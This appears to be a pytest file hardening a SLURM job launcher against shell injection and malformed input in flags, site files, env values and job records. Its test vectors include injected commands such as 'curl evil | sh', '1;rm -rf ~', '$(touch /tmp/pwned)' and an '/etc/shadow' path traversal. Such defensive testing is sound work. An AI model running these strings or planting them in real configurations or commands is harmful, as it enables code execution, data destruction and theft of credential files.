"""``nereus-launch`` against careless or hostile input (issue 15, hardening).

Nothing reaches an sbatch script with a control character in it (a newline in ``--account`` or in a
site file's ``sbatch:`` value would start a shell line of its own); ``env`` values are exported
literally (``shlex.quote``), so ``$(...)``, backticks, ``;`` and ``$VAR`` run nothing; usage errors
are one line; bad files, numbers and job ids are one line and exit 2, never a traceback.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from launch import submit
from launch.jobdir import read_record
from launch.render import Request, render
from launch.site import Site, load_site
from tests.test_launch import FOLDER, PPO_TINY, PYTHON, ROOT, SWEEP, FakeExecutor, launch

pytestmark = pytest.mark.pure

LOCAL_SITE = yaml.safe_load((ROOT / "slurm/templates/local.yaml").read_text())
CONTROL = "control characters are not allowed"


@pytest.fixture
def factory() -> Callable[[str, Path, str], FakeExecutor]:
    return FakeExecutor


def site_file(tmp_path: Path, **changes: Any) -> Path:
    path = tmp_path / "mysite.yaml"
    path.write_text(yaml.safe_dump({**LOCAL_SITE, **changes}))
    return path


def refused(args: list[str], message: str, tmp_path: Path, capsys: Any, factory: Any) -> tuple[int, str, str]:
    """``args`` (a real submission, not a dry run) fails with one line holding ``message``, exit 2,
    and leaves no job folder (nor the jobs root) behind."""
    root = tmp_path / "jobs"
    if "--jobs-root" not in args:
        args = [*args, "--jobs-root", str(root)]
    code, out, err = launch(args, capsys, factory=factory)
    assert code == 2 and not out, (code, out, err)
    assert len(err.splitlines()) == 1 and err.endswith("\n"), err
    assert message in err, err
    assert "Traceback" not in err
    assert not root.exists(), list(root.rglob("*"))
    return code, out, err


# ------------------------------------------------------------------ injection: refused
FLAG_VECTORS = [
    (["--account", "x\necho pwned #"], f"--account: {CONTROL} (got 'x\\necho pwned #')"),
    (["--account", "acct\r"], f"--account: {CONTROL} (got 'acct\\r')"),
    (["--partition", "debug\ntouch pwned"], f"--partition: {CONTROL} (got 'debug\\ntouch pwned')"),
    (["--partition", "debug\x00"], f"--partition: {CONTROL} (got 'debug\\x00')"),
    (["--time", "30\nid"], f"--time: {CONTROL} (got '30\\nid')"),
    (["--account", "a\tb"], f"--account: {CONTROL} (got 'a\\tb')"),
    (["--account", "a\x7fb"], f"--account: {CONTROL} (got 'a\\x7fb')"),
]


@pytest.mark.parametrize(("flags", "message"), FLAG_VECTORS)
def test_control_characters_in_flags(
    flags: list[str], message: str, tmp_path: Path, capsys: Any, factory: Any
) -> None:
    refused(["submit", str(PPO_TINY), *flags], message, tmp_path, capsys, factory)
    refused(["array", str(SWEEP), *flags], message, tmp_path, capsys, factory)


def test_control_characters_in_a_site_with_any_partition(tmp_path: Path, capsys: Any, factory: Any) -> None:
    """A site that accepts any partition name (nvidia's ``partitions: []``) still refuses a newline."""
    site = site_file(tmp_path, partitions=[], partition="")
    message = f"--partition: {CONTROL} (got 'x\\necho pwned #')"
    refused(["submit", str(PPO_TINY), "--site", str(site), "--partition", "x\necho pwned #"], message,
            tmp_path, capsys, factory)  # fmt: skip


def test_jobs_root_is_written_into_the_script(tmp_path: Path, capsys: Any, factory: Any) -> None:
    root = tmp_path / "a\nb"
    refused(["submit", str(PPO_TINY), "--jobs-root", str(root)], "--jobs-root: " + CONTROL, tmp_path,
            capsys, factory)  # fmt: skip
    assert not root.exists()
    root = tmp_path / "100%x"
    refused(["submit", str(PPO_TINY), "--jobs-root", str(root)], "--jobs-root: '%' is not allowed", tmp_path,
            capsys, factory)  # fmt: skip
    assert not root.exists()


NOT_ENV = "is not an environment variable name"
SITE_VECTORS = [
    ({"sbatch": {"qos": "x\necho pwned #"}}, f"key 'sbatch.qos': {CONTROL} (got 'x\\necho pwned #')"),
    ({"sbatch": {"qos": "normal\r"}}, "key 'sbatch.qos': " + CONTROL),
    ({"env": {"X": "$(touch /tmp/pwned)\n"}}, f"key 'env.X': {CONTROL} (got '$(touch /tmp/pwned)\\n')"),
    ({"env": {"X": "`touch /tmp/pwned`\r"}}, f"key 'env.X': {CONTROL} (got '`touch /tmp/pwned`\\r')"),
    ({"env": {"X": "a\x00b"}}, "key 'env.X': " + CONTROL),
    ({"env": {"BAD-NAME": "1"}}, f"key 'env': 'BAD-NAME' {NOT_ENV} (allowed: [A-Za-z_][A-Za-z0-9_]*)"),
    ({"env": {"1X": "1"}}, f"key 'env': '1X' {NOT_ENV}"),
    ({"env": {"X=$(id)": "1"}}, f"key 'env': 'X=$(id)' {NOT_ENV}"),
    ({"env": {"A\nB": "1"}}, f"key 'env': 'A\\nB' {NOT_ENV}"),
    ({"setup": ["module load x\ncurl evil | sh"]}, "key 'setup[0]': " + CONTROL),
    ({"srun_args": ["--no-kill", "--x=\n"]}, "key 'srun_args[1]': " + CONTROL),
    ({"account": "acct\n"}, "key 'account': " + CONTROL),
    ({"partition": "debug\n", "partitions": ["debug\n"]}, "key 'partition': " + CONTROL),
    ({"partitions": ["debug", "x\ty"]}, "key 'partitions[1]': " + CONTROL),
    ({"time": "30\n"}, "key 'time': " + CONTROL),
]


@pytest.mark.parametrize(("changes", "message"), SITE_VECTORS)
def test_control_characters_in_a_site_file(
    changes: dict[str, Any], message: str, tmp_path: Path, capsys: Any, factory: Any
) -> None:
    site = site_file(tmp_path, **changes)
    _, _, err = refused(["submit", str(PPO_TINY), "--site", str(site)], message, tmp_path, capsys, factory)
    assert f"error: {site}: " in err  # the file, then the key


@pytest.mark.parametrize(
    ("name", "shown"),
    [("a\nb", "'a\\nb'"), ("a b", "'a b'"), ("../../etc", "'../../etc'"), ("x;id", "'x;id'")],
)
def test_names_that_become_job_names(
    name: str, shown: str, tmp_path: Path, capsys: Any, factory: Any
) -> None:
    exp = tmp_path / "exp.yaml"
    exp.write_text(yaml.safe_dump({**yaml.safe_load(PPO_TINY.read_text()), "name": name}))
    message = f"{exp}: key 'name': expected a letter or digit, then letters, digits, '.', '_' or '-'"
    _, _, err = refused(["submit", str(exp)], message, tmp_path, capsys, factory)
    assert f"got {shown}" in err
    sweep = tmp_path / "sweep.yaml"
    sweep.write_text(yaml.safe_dump({**yaml.safe_load(SWEEP.read_text()), "name": name}))
    refused(["array", str(sweep)], f"{sweep}: key 'name': expected", tmp_path, capsys, factory)


def test_file_stem_as_job_name(tmp_path: Path, capsys: Any, factory: Any) -> None:
    data = yaml.safe_load(PPO_TINY.read_text())
    del data["name"]
    exp = tmp_path / "my exp.yaml"
    exp.write_text(yaml.safe_dump(data))
    # the file's stem is the experiment's name: the experiment's rule names it
    refused(["submit", str(exp)], f"{exp}: key 'name': expected a letter or digit", tmp_path, capsys, factory)


def test_tampered_job_record_is_refused_before_a_grow_job_is_written(
    tmp_path: Path, capsys: Any, factory: Any
) -> None:
    root = tmp_path / "jobs"
    assert launch(["submit", str(PPO_TINY), "--nodes", "2", "--jobs-root", str(root)], capsys,
                  factory=factory)[0] == 0  # fmt: skip
    (folder,) = root.iterdir()
    record = json.loads((folder / "job.json").read_text())
    for key, value in (("account", "x\necho pwned #"), ("partition", "a\rb"), ("python", "python\nid"),
                       ("name", "a b")):  # fmt: skip
        (folder / "job.json").write_text(json.dumps({**record, key: value}))
        code, _, err = launch(["grow", str(folder), "--nodes", "1"], capsys, factory=factory)
        assert code == 2 and len(err.splitlines()) == 1 and f"job.json: {key}: " in err, err
        assert not list(folder.glob("grow-*.sbatch"))
    (folder / "job.json").write_text("[" * 100_000 + "]" * 100_000)  # a RecursionError in json
    code, _, err = launch(["status", str(folder)], capsys)
    assert (
        code == 2 and "job.json: not valid JSON (nested deeper than" in err and len(err.splitlines()) == 1
    ), err
    (folder / "job.json").write_text(json.dumps({**record, "executor": "local", "job_ids": ["1;id"]}))
    code, _, err = launch(["cancel", str(folder)], capsys)
    assert code == 2 and "job_ids: a local job's ids are process ids, got '1;id'" in err
    # SLURM ids reach scancel, sacct and squeue: "--me" would cancel every job the user has
    for ids in (["--me"], ["-u", "root"], ["1,2,3"]):
        (folder / "job.json").write_text(json.dumps({**record, "executor": "slurm", "job_ids": ids}))
        for command in ("cancel", "status"):
            code, _, err = launch([command, str(folder)], capsys, factory=factory)
            assert code == 2 and f"job_ids: {ids[0]!r} is not a SLURM job id" in err, err
    (folder / "job.json").write_text(json.dumps({**record, "version": 99}))
    code, _, err = launch(["status", str(folder)], capsys, factory=factory)
    assert code == 2 and "version must be 1" in err, err


def test_a_request_refuses_what_the_checks_missed() -> None:
    """The last line of defence: whatever builds a ``Request`` (a site is a ``Site``) is checked."""
    base: dict[str, Any] = dict(job_name="j", folder=FOLDER, python=PYTHON, nodes=1, tasks_per_node=1,
                                time_min=5)  # fmt: skip
    for key, value in (("account", "a\nb"), ("partition", "\r"), ("python", "py\nid"), ("folder", "/x\n/y"),
                       ("folder", "/x/%j"), ("job_name", "a\nb")):  # fmt: skip
        with pytest.raises(ValueError, match=key):
            Request(**{**base, key: value})
    with pytest.raises(ValueError, match=r"key 'env\.X': control characters"):
        Site(name="s", vendor="cpu", env={"X": "\n"})  # type: ignore[arg-type]


# ------------------------------------------------------------------ env values: literal, quoted
def rendered_exports(site: Site) -> list[str]:
    req = Request(job_name="j", folder=FOLDER, python=PYTHON, nodes=1, tasks_per_node=1, time_min=5)
    script = render(site, req).sbatch
    assert subprocess.run(["bash", "-n"], input=script, text=True, check=False).returncode == 0, script
    return [line for line in script.splitlines() if line.startswith("export ") and "SUBMITIT" not in line]


def test_env_values_are_literal(tmp_path: Path) -> None:
    """``$(...)``, backticks, ``;``, ``$VAR``, quotes and backslashes in an env value run nothing
    and reach the job as written."""
    values = {
        "SUBST": f"$(touch {tmp_path}/pwned-subst)",
        "TICKS": f"`touch {tmp_path}/pwned-ticks`",
        "SEMI": f"x; touch {tmp_path}/pwned-semi",
        "AND": f"x && touch {tmp_path}/pwned-and #",
        "VARS": "$HOME ${USER:-$(id)} $$ $1",
        "QUOTES": "it's \"quoted\" \\ and \\'escaped\\'",
        "SPACES": "  two  spaces  ",
        "EMPTY": "",
        "PLAIN": "hsn0",
    }
    site = Site(name="s", vendor="cpu", env=values)  # type: ignore[arg-type]
    exports = rendered_exports(site)
    assert len(exports) == len(values)
    assert "export PLAIN=hsn0" in exports and "export EMPTY=''" in exports
    assert f"export SUBST='$(touch {tmp_path}/pwned-subst)'" in exports
    for line, (key, value) in zip(exports, values.items(), strict=True):
        assert shlex.split(line) == ["export", f"{key}={value}"]  # one word: the value, literally
    show = "".join(f'printf "%s\\0" "${key}"\n' for key in values)
    out = subprocess.run(["bash", "-c", "\n".join(exports) + "\n" + show], capture_output=True, text=True,
                         check=True, cwd=tmp_path)  # fmt: skip
    assert out.stdout.split("\0")[:-1] == list(values.values())
    assert not list(tmp_path.glob("pwned*")), "an env value ran a command"


def test_env_values_reach_the_job_folder_quoted(tmp_path: Path, capsys: Any, factory: Any) -> None:
    site = site_file(tmp_path, env={"X": f"$(touch {tmp_path}/pwned)", "OMP_NUM_THREADS": "1"})
    root = tmp_path / "jobs"
    code, _, err = launch(["submit", str(PPO_TINY), "--site", str(site), "--jobs-root", str(root)], capsys,
                          factory=factory)  # fmt: skip
    assert code == 0, err
    (folder,) = root.iterdir()
    script = (folder / "job.sbatch").read_text()
    assert f"export X='$(touch {tmp_path}/pwned)'\n" in script and "export OMP_NUM_THREADS=1\n" in script
    code, out, _ = launch(["submit", str(PPO_TINY), "--site", str(site), "--local", "--dry-run"], capsys)
    assert code == 0 and f"# setup: export X='$(touch {tmp_path}/pwned)'" in out
    bash = shutil.which("bash") or "/bin/bash"  # the whole script; without srun it stops there
    subprocess.run([bash, str(folder / "job.sbatch")], capture_output=True, check=False, timeout=60,
                   env={"PATH": str(tmp_path / "no-bin")}, cwd=tmp_path)  # fmt: skip
    assert not (tmp_path / "pwned").exists()


def test_shipped_sites_render_valid_bash() -> None:
    for name in ("frontier", "nvidia", "local"):
        rendered_exports(load_site(name))
    frontier = render(load_site("frontier"), Request(job_name="j", folder=FOLDER, python=PYTHON, nodes=1,
                                                     tasks_per_node=8, time_min=5)).sbatch  # fmt: skip
    # Shell belongs in setup: MIOpen's per-user, per-job cache path expands there.
    assert 'export MIOPEN_USER_DB_PATH="/tmp/miopen-$USER-$SLURM_JOB_ID"' in frontier


# ------------------------------------------------------------------ argparse: one line
CHOICES = "'submit', 'array', 'status', 'logs', 'cancel', 'grow', 'shrink', 'resume'"
USAGE = [
    (["submit", str(PPO_TINY), "--bogus"], "submit: error: unrecognized arguments: --bogus"),
    (["submit"], "submit: error: the following arguments are required: experiment"),
    (
        ["submit", str(PPO_TINY), "--nodes", "two"],
        "submit: error: argument --nodes: expected a positive integer, got 'two'",
    ),
    (["grow", "x"], "grow: error: the following arguments are required: --nodes"),
    (["status", "x", "--json", "--follow"], "status: error: unrecognized arguments: --follow"),
    (["bogus"], f": error: argument command: invalid choice: 'bogus' (choose from {CHOICES})"),
    ([], ": error: the following arguments are required: command"),
    (["array", str(SWEEP), "--x\ny"], "array: error: unrecognized arguments: --x\\ny"),
]


@pytest.mark.parametrize(("args", "line"), USAGE)
def test_usage_errors_are_one_line(args: list[str], line: str, capsys: Any) -> None:
    code, out, err = launch(args, capsys)
    assert code == 2 and not out
    separator = "" if line.startswith(":") else " "
    assert err == f"nereus-launch{separator}{line} (see --help)\n"


# ------------------------------------------------------------------ files, numbers, job ids: one line
def test_bad_files(tmp_path: Path, capsys: Any, factory: Any) -> None:
    not_utf8 = tmp_path / "latin1.yaml"
    not_utf8.write_bytes(b"vendor: cpu\ndescription: caf\xe9\n")
    directory = tmp_path / "dir.yaml"
    directory.mkdir()
    deep = tmp_path / "deep.yaml"
    deep.write_text("[" * 100_000)
    submit_site = ["submit", str(PPO_TINY), "--site"]
    invalid = "is not valid YAML"  # the wording past the file's name is nereus.spec.schema's
    for flag_args, message in (
        ([*submit_site, str(not_utf8)], f"{not_utf8}: not UTF-8 text (byte 0xe9 at offset 28)"),
        ([*submit_site, str(directory)], f"--site: {directory} is a directory, not a YAML file"),
        ([*submit_site, str(deep)], invalid),
        ([*submit_site, "/dev/null"], "--site: /dev/null is not a regular file"),
        ([*submit_site, "x" * 5000 + ".yaml"], "--site: cannot read x"),
        ([*submit_site, "x" * 5000], "--site: unknown site 'xxx"),
        ([*submit_site, "lo\ncal"], f"--site: {CONTROL} (got 'lo\\ncal')"),
        (["submit", str(not_utf8)], f"{not_utf8}: not UTF-8 text"),
        (["submit", str(directory)], f"EXPERIMENT: {directory} is a directory, not a YAML file"),
        (["submit", str(deep)], invalid),
        (["array", str(not_utf8)], f"{not_utf8}: not UTF-8 text"),
        (["array", str(directory)], f"SWEEP: {directory} is a directory, not a YAML file"),
        (["array", str(deep)], invalid),
    ):
        _, _, err = refused(flag_args, message, tmp_path, capsys, factory)
        assert message != invalid or f"error: {deep}: " in err, err


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"gpus_per_node": float("nan")}, "key 'gpus_per_node': expected int, got nan"),
        ({"gpus_per_node": float("inf")}, "key 'gpus_per_node': expected int, got inf"),
        ({"gpus_per_node": -8}, "gpus_per_node must be non-negative, got -8"),
        ({"cpus_per_task": 0}, "cpus_per_task must be positive, got 0"),
        ({"max_nodes": -1}, "max_nodes must be non-negative, got -1"),
        ({"signal_delay_s": -30}, "signal_delay_s must be positive, got -30"),
        ({"time": "-1"}, "time: expected a positive time limit"),
        ({"time": "nan"}, "time: expected a positive time limit"),
    ],
)
def test_bad_site_numbers(
    changes: dict[str, Any], message: str, tmp_path: Path, capsys: Any, factory: Any
) -> None:
    site = site_file(tmp_path, **changes)
    refused(["submit", str(PPO_TINY), "--site", str(site)], message, tmp_path, capsys, factory)


@pytest.mark.parametrize(
    ("flags", "message"),
    [
        (["--nodes", "nan"], "argument --nodes: expected a positive integer, got 'nan' (see --help)"),
        (["--nodes", "inf"], "argument --nodes: expected a positive integer, got 'inf'"),
        (["--nodes", "-1"], "argument --nodes: expected a positive integer, got '-1'"),
        (["--nodes", "1e3"], "argument --nodes: expected a positive integer, got '1e3'"),
        (["--nodes", "\u0662"], "argument --nodes: expected a positive integer, got '\u0662'"),  # Arabic 2
        (["--nodes", "9" * 5000], "argument --nodes: expected a positive integer, got '999"),
        (["--time", "nan"], "--time: expected a positive time limit as MM, MM:SS, HH:MM:SS"),
        (["--time", "inf"], "--time: expected a positive time limit"),
        (["--time", "-5"], "--time: expected a positive time limit"),
        (["--time", "9" * 5000], "--time: expected a positive time limit"),
        (["--time", "\u0663\u0660"], "--time: expected a positive time limit"),
    ],
)
def test_bad_numbers(flags: list[str], message: str, tmp_path: Path, capsys: Any, factory: Any) -> None:
    _, _, err = refused(["submit", str(PPO_TINY), *flags], message, tmp_path, capsys, factory)
    assert len(err) < 400


@pytest.mark.parametrize("command", ["status", "logs", "cancel"])
@pytest.mark.parametrize(
    ("ref", "message"),
    [
        ("1;rm -rf ~", "JOB: no such job folder: 1;rm -rf ~"),
        ("$(touch pwned)", "JOB: no such job folder: $(touch pwned)"),
        ("12`id`", "JOB: no such job folder: 12`id`"),
        ("\u0661\u0662", "JOB: no such job folder: \u0661\u0662"),
        ("4242\nid", "JOB: control characters are not allowed (got '4242\\nid')"),
        ("a\x00b", "JOB: control characters are not allowed (got 'a\\x00b')"),
        ("x" * 5000, "JOB: cannot look at 'xxx"),
        ("4242", "no job with id 4242 under"),
    ],
)
def test_bad_job_references(command: str, ref: str, message: str, tmp_path: Path, capsys: Any) -> None:
    calls: list[list[str]] = []
    code, out, err = launch([command, ref, "--jobs-root", str(tmp_path)], capsys,
                            runner=lambda argv: calls.append(list(argv)) or (0, "", ""))  # fmt: skip
    assert code == 2 and not out and len(err.splitlines()) == 1 and message in err, err
    assert not calls and not list(tmp_path.iterdir())


def test_huge_grid(tmp_path: Path, capsys: Any, factory: Any) -> None:
    sweep = tmp_path / "huge.yaml"
    grid = {f"k{i}": list(range(10)) for i in range(40)}
    sweep.write_text(yaml.safe_dump({"command": "plan", "grid": grid}))
    message = f"{sweep}: grid has {10**40} points (at most 1000 tasks per array)"
    refused(["array", str(sweep)], message, tmp_path, capsys, factory)


def test_damaged_job_folders_do_not_crash_status(tmp_path: Path, capsys: Any, factory: Any) -> None:
    root = tmp_path / "jobs"
    assert launch(["submit", str(PPO_TINY), "--jobs-root", str(root)], capsys, factory=factory)[0] == 0
    (folder,) = root.iterdir()
    (folder / "run").mkdir()
    (folder / "run" / "metrics.jsonl").write_bytes(b'{"step": 3, "reward": "high", "plan": [1]}\n\xff\xfe\n')
    no_slurm = {"runner": lambda argv: (1, "", "")}
    code, out, err = launch(["status", str(folder)], capsys, **no_slurm)
    assert code == 0 and "step 3" in out, err
    assert launch(["array", str(SWEEP), "--jobs-root", str(root)], capsys, factory=factory)[0] == 0
    (array,) = [p for p in root.iterdir() if p.name.startswith("plan-scaling")]
    (array / "results" / "task-0000.json").write_text("[1, 2]")
    (array / "results" / "task-0001.json").write_text('{"exit_code": 0, "result": {"step_latency_s": "x"}}')
    code, out, err = launch(["status", str(array)], capsys, **no_slurm)
    assert code == 0, err
    code, out, err = launch(["status", str(array), "--json"], capsys, **no_slurm)
    assert code == 0 and json.loads(out)["tasks"][0]["exit_code"] is None


def test_status_prints_markup_in_paths_as_text(tmp_path: Path, capsys: Any, factory: Any) -> None:
    """A folder named ``q[/]`` (or ``[foo]``) is text in the status line, not Rich markup (a
    MarkupError traceback, or the bracketed part silently dropped)."""
    root = tmp_path / "q[/]"
    assert launch(["submit", str(PPO_TINY), "--jobs-root", str(root)], capsys, factory=factory)[0] == 0
    (folder,) = root.iterdir()
    moved = folder.rename(root / "[foo]z")
    code, out, err = launch(["status", str(moved)], capsys, runner=lambda argv: (1, "", ""))
    assert code == 0 and str(moved) in out.replace("\n", ""), err


def test_status_of_someone_elses_job_never_rewrites_its_record(
    tmp_path: Path, capsys: Any, factory: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Root (or anyone) showing another user's job: its refreshed state is shown, not written
    (a rewritten job.json became root's, 0600, and locked its owner out)."""
    root = tmp_path / "jobs"
    assert launch(["submit", str(PPO_TINY), "--jobs-root", str(root)], capsys, factory=factory)[0] == 0
    (folder,) = root.iterdir()
    before = (folder / "job.json").read_bytes()
    job_id = read_record(folder).job_ids[0]
    running = {"runner": lambda argv: (0, f"{job_id}|RUNNING\n", "") if argv[0] == "squeue" else (1, "", "")}
    me = os.getuid()
    monkeypatch.setattr("launch.monitor.os.getuid", lambda: me + 1)
    code, out, err = launch(["status", str(folder), "--json"], capsys, **running)
    assert code == 0 and json.loads(out)["state"] == "RUNNING", err
    assert (folder / "job.json").read_bytes() == before
    monkeypatch.undo()
    assert launch(["status", str(folder), "--json"], capsys, **running)[0] == 0
    assert read_record(folder).state == "RUNNING"  # its owner's status does refresh it


def test_a_record_that_drains_every_node_or_reads_outside_its_folder_is_refused(
    tmp_path: Path, capsys: Any, factory: Any
) -> None:
    root = tmp_path / "jobs"
    assert launch(["submit", str(PPO_TINY), "--nodes", "2", "--jobs-root", str(root)], capsys,
                  factory=factory)[0] == 0  # fmt: skip
    (folder,) = root.iterdir()
    record = json.loads((folder / "job.json").read_text())
    shrink = {"nodes": 6, "created": record["created"], "file": "shrink-1.json"}
    (folder / "job.json").write_text(json.dumps({**record, "shrinks": [shrink]}))
    code, _, err = launch(["status", str(folder)], capsys, runner=lambda argv: (1, "", ""))
    assert code == 2 and "shrinks: 6 node(s) drained of the 2 the job had" in err, err
    assert launch(["array", str(SWEEP), "--jobs-root", str(root)], capsys, factory=factory)[0] == 0
    (array,) = [p for p in root.iterdir() if p.name.startswith("plan-scaling")]
    record = json.loads((array / "job.json").read_text())
    record["tasks"][0]["output"] = "../../../../etc/shadow"
    (array / "job.json").write_text(json.dumps(record))
    code, _, err = launch(["status", str(array)], capsys, runner=lambda argv: (1, "", ""))
    assert code == 2 and "output: expected 'results/task-0000.json' for task 0" in err, err


def test_a_folder_that_cannot_be_written_is_one_line(
    tmp_path: Path, capsys: Any, factory: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    folders = []
    for nodes in ("4", "2"):  # one to shrink (three nodes left hold a plan), one to grow
        root = tmp_path / f"jobs{nodes}"
        assert launch(["submit", str(PPO_TINY), "--nodes", nodes, "--jobs-root", str(root)], capsys,
                      factory=factory)[0] == 0  # fmt: skip
        folders += list(root.iterdir())
    big, folder = folders

    def denied(path: Path, text: str, mode: int = 0o600) -> None:
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(submit, "atomic_write", denied)  # grow's script
    monkeypatch.setattr("launch.jobdir.atomic_write", denied)  # shrink's request, job.json
    code, out, err = launch(["shrink", str(big), "--nodes", "1"], capsys)
    assert code == 2 and not out and len(err.splitlines()) == 1
    assert err.startswith("nereus-launch shrink: error: ") and "Permission denied" in err
    code, _, err = launch(["grow", str(folder), "--nodes", "1"], capsys, factory=factory)
    assert code == 2 and "grow-1.sbatch: Permission denied" in err and len(err.splitlines()) == 1
    assert read_record(folder).grows == ()


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"policy": "foo"}, "policy: unknown policy 'foo'"),
        ({"verifier": "nosuch"}, "unknown verifier 'nosuch'"),
        ({"engines": {"bogus.gen": "vllm"}}, "engines.bogus.gen: not a model-stage of ppo-tiny"),
        ({"init": {"actor": "/nonexistent"}}, "init.actor: /nonexistent is not a Hugging Face checkpoint"),
        ({"tokenizer": "/nonexistent"}, "tokenizer: /nonexistent holds no Hugging Face tokenizer"),
    ],
)
def test_the_launcher_refuses_what_a_worker_would(
    changes: dict[str, Any], message: str, tmp_path: Path, capsys: Any, factory: Any
) -> None:
    """``nereus run``'s checks run on the login node before the job queues (those that need no
    torch), not on the compute node after it waited for its allocation."""
    exp = tmp_path / "exp.yaml"
    exp.write_text(yaml.safe_dump({**yaml.safe_load(PPO_TINY.read_text()), **changes}))
    refused(["submit", str(exp)], message, tmp_path, capsys, factory)


def test_time_limits_the_requeue_warning_cannot_fit_are_refused(
    tmp_path: Path, capsys: Any, factory: Any
) -> None:
    site = site_file(tmp_path, signal_delay_s=120)
    args = ["submit", str(PPO_TINY), "--site", str(site), "--local", "--dry-run"]
    code, _, err = launch([*args, "--time", "2"], capsys)
    assert code == 2 and "--time: 2 min is not longer than site mysite's signal_delay_s 120 s" in err, err
    code, _, err = launch([*args, "--time", "999999999-0"], capsys)
    assert code == 2 and "--time: '999999999-0' is more than 365 days" in err, err
    code, _, err = launch(["submit", str(PPO_TINY), "--site", str(site_file(tmp_path, signal_delay_s=100000)),
                           "--local", "--dry-run"], capsys)  # fmt: skip
    assert code == 2 and "signal_delay_s must be at most 65535" in err, err


def test_a_finished_or_someone_elses_job_is_not_changed(tmp_path: Path, capsys: Any, factory: Any) -> None:
    root = tmp_path / "jobs"
    assert launch(["submit", str(PPO_TINY), "--nodes", "2", "--jobs-root", str(root)], capsys,
                  factory=factory)[0] == 0  # fmt: skip
    (folder,) = root.iterdir()
    record = json.loads((folder / "job.json").read_text())
    (folder / "job.json").write_text(json.dumps({**record, "state": "COMPLETED"}))
    code, _, err = launch(["shrink", str(folder), "--nodes", "1"], capsys, factory=factory)
    assert code == 2 and "is COMPLETED; only a running job shrinks" in err, err
    assert not (folder / "control").exists() or not list((folder / "control").iterdir())
    if os.geteuid() == 0:  # only root can hand the folder to another user
        (folder / "job.json").write_text(json.dumps(record))
        os.chown(folder, 65534, -1)
        before = (folder / "job.json").read_text()
        for args in (["shrink", str(folder), "--nodes", "1"], ["cancel", str(folder)],
                     ["grow", str(folder), "--nodes", "1"]):  # fmt: skip
            code, _, err = launch(args, capsys, factory=factory)
            assert code == 2 and "belongs to uid 65534, not this user" in err, (args, err)
        assert (folder / "job.json").read_text() == before
